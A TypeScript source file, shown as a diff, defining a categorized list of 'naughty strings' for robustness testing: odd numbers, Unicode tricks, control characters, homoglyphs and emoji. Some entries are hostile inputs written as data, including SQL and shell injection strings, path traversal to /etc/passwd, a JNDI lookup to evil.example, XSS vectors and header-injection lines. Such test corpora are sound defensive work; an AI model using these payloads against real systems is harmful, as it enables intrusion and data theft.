@@ -1,0 +1,191 @@
+/** Texts that programs have stumbled over, by what they stumble over. All are well formed; none is empty. */
+
+const spell = (...codes: readonly number[]): string => String.fromCodePoint(...codes);
+const range = (first: number, last: number): number[] =>
+  Array.from({ length: last - first + 1 }, (_, index) => first + index);
+
+export const NAUGHTY: Readonly<Record<string, readonly string[]>> = {
+  "words that are values": [
+    ...["null", "NULL", "nil", "undefined", "true", "false", "TRUE", "NaN", "Infinity", "-Infinity", "None", "(null)"],
+    ...["constructor", "__proto__", "prototype", "toString", "hasOwnProperty", "then", "toJSON", "length", "valueOf"],
+  ],
+  "texts that look like numbers": [
+    ...["0", "1", "-1", "00", "+1", "1.0", "1e5", "1e309", "-0", "0x10", "0b1", "0o7", "1_000", "1,000.00", ".5", "1."],
+    ...[
+      "9007199254740993",
+      "18446744073709551616",
+      "123456789012345678901234567890123456789",
+      "０１２",
+      "١٢٣",
+      "½",
+      "Ⅷ",
+    ],
+    ...["2147483648", "-2147483649", "4294967296", "1/0", "0/0", "١٫٥", "𝟘𝟙"],
+  ],
+  punctuation: [
+    ...[
+      "!@#$%^&*()",
+      "`~",
+      "'",
+      '"',
+      "''",
+      '""',
+      "'\"'\"'",
+      '<>?:"{}|_+',
+      ",./;'[]\\-=",
+      "\\",
+      "\\\\",
+      "\\u0000",
+      "%00",
+    ],
+    ...["%", "%%", "%2561", "%s", "&lt;", "&amp;amp;", "${}", "{{}}", "{0}", "#{}", "*", "**", "~", "-", "--", "."],
+  ],
+  "parts of programs": [
+    ...["1;DROP TABLE users", "' OR 1=1 -- 1", "1' OR '1'='1", "'; EXEC xp_cmdshell('dir'); --", "%' AND 1=1"],
+    ...[
+      "$HOME",
+      "$(touch /tmp/x)",
+      "`touch /tmp/x`",
+      "; ls -la",
+      "| cat /etc/passwd",
+      "&& reboot",
+      "a\nb",
+      "--help",
+      "-rf",
+    ],
+    ...[
+      "../../../../etc/passwd",
+      "..\\..\\windows",
+      "/dev/null",
+      "CON",
+      "C:\\",
+      "file:///etc/passwd",
+      "//evil.example",
+    ],
+    ...["{{7*7}}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://evil.example/x}", "%{#a=1}", "eval(1)", "__import__('os')"],
+    ...[
+      "%s%s%s%n",
+      "%x%x%x%x",
+      "%p",
+      "%1$*1$x",
+      "{0.__class__}",
+      "\\x41",
+      "\\n",
+      "\\0",
+      "=1+1",
+      "+1+1",
+      "@SUM(1)",
+      "-1+1",
+    ],
+  ],
+  markup: [
+    ...["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</title><script>", "<svg/onload=alert(1)>"],
+    ...[
+      "javascript:alert(1)",
+      "<!--",
+      "-->",
+      "]]>",
+      "<![CDATA[x]]>",
+      "<?xml version='1.0'?>",
+      "<b>",
+      "&#x3c;",
+      "&quot;",
+    ],
+    ...[
+      '" onmouseover="alert(1)',
+      "<ﾞscript>",
+      "<a href='data:text/html,x'>",
+      "[x](javascript:alert(1))",
+      "<!DOCTYPE x>",
+    ],
+  ],
+  "frames and lines of other protocols": [
+    ...['{"type":"ping"}', '{"type":"error","code":"INTERNAL"}', '[{"type":"ping"}]', '","type":"connected","x":"'],
+    ...[
+      "a\r\nX-Injected: 1",
+      "\r\n\r\n",
+      "\n.\n",
+      "SET x 1",
+      "*1\r\n$4\r\nPING\r\n",
+      "PUB x 1",
+      "event: x\ndata: y\n\n",
+    ],
+    ...['\n{"level":"audit","event":"login_ok"}', "data:,", "eyJhbGciOiJub25lIn0.e30.", "Bearer x"],
+  ],
+  "control characters and what a terminal obeys": [
+    ...["\t", "\n", "a\tb\nc", "\u007f", "\u0080\u0085\u009f", "\u009b31m", "\u2028\u2029", "\u0085"],
+    ...["\u001b[31m", "\u001b[2J", "\u001b]0;title\u0007"],
+  ],
+  spaces: [
+    ...[" ", "  a  ", "\u00a0", "\u1680", "\u3000", "\u205f", "\u202f", "\u180e", spell(...range(0x2000, 0x200a))],
+  ],
+  "characters without a width": [
+    "\u200b\u200c\u200d",
+    "\u2060\u2061\u2062",
+    "\ufeff",
+    "a\u00adb",
+    "\u034f",
+    "\u115f\u3164",
+  ],
+  "byte order marks and characters that are none": [
+    ...["\ufeffa", "\ufffe", "\uffff", "\ufffd", spell(0x1fffe, 0x10ffff), spell(...range(0xfdd0, 0xfdef))],
+  ],
+  directions: [
+    ...["\u202eabc", "\u202dabc\u202c", "\u2066a\u2069", "\u200e\u200f\u061c", "مرحبا", "שלום עולם", "مرحبا abc שלום"],
+    ...["הָיְתָה", "۱۲۳", "\u2067\u2067\u2067"],
+  ],
+  "two ways to write the same": [
+    ...[
+      "é",
+      "e\u0301",
+      "Å",
+      "\u212b",
+      "ﬁ",
+      "ﷺ",
+      "\u1e9b\u0323",
+      "ı",
+      "İ",
+      "ß",
+      "ẞ",
+      "ſ",
+      "\u212a",
+      "ǆ",
+      "ΐ",
+      "가",
+      "\u1100\u1161",
+    ],
+    ...["ａｄｍｉｎ", "аdmin", "ⅰ", "𝐚𝐝𝐦𝐢𝐧", "ᴀᴅᴍɪɴ", "ⒶⒹⓂ", "раураl"],
+  ],
+  "letters under letters": ["Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞", `a${"\u0301".repeat(200)}`, "ก็็็็็็็็็็็็็็็็็็็็"],
+  scripts: [
+    ...[
+      "田中さんにあげて下さい",
+      "사회과학원 어학연구소",
+      "Ελληνικά",
+      "Съешь же ещё",
+      "ภาษาไทย",
+      "हिन्दी",
+      "தமிழ்",
+      "ไทย",
+    ],
+    ...["𠜎𠜱𠝹𠱓", "ꙮ", "ⴰⵎⴰⵣⵉⵖ", "ᚠᛇᚻ", "𓀀𓀁", "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "¡™£¢∞§¶•ªº–≠", "⁰⁴⁵₀₁₂", "⒜⒝⒞", "／￥＊"],
+  ],
+  emoji: [
+    ...["😀", "👩‍👩‍👧‍👦", "👨🏿‍🦰", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇺🇸🇷🇺🇸", "🇦", "❤️", "❤︎", "1️⃣", "🚾 🆒 🆓", "👾 🙇 💁", "(╯°□°）╯︵ ┻━┻", "ʕ•ᴥ•ʔ"],
+    ...["🏿", "\u{1f3fb}\u{1f3fc}", "👍🏽".repeat(20), "\ufe0f\ufe0f\ufe0f"],
+  ],
+  "private and unassigned": [
+    "\ue000\uf8ff",
+    spell(0xf0000, 0x10fffd),
+    "\u{e0061}\u{e007f}",
+    "\u0378",
+    "\u{10ffff}",
+    "\u{e01ef}",
+  ],
+  "many of them": ["ﷺ".repeat(1_000), "😀".repeat(1_000), "a".repeat(4_096), "é".repeat(2_000), "\u0301".repeat(2_000)],
+};
+
+/** Each with the name of its kind. */
+export const NAUGHTY_STRINGS: readonly (readonly [kind: string, text: string])[] = Object.entries(NAUGHTY).flatMap(
+  ([kind, texts]) => texts.map((text) => [kind, text] as const),
+);
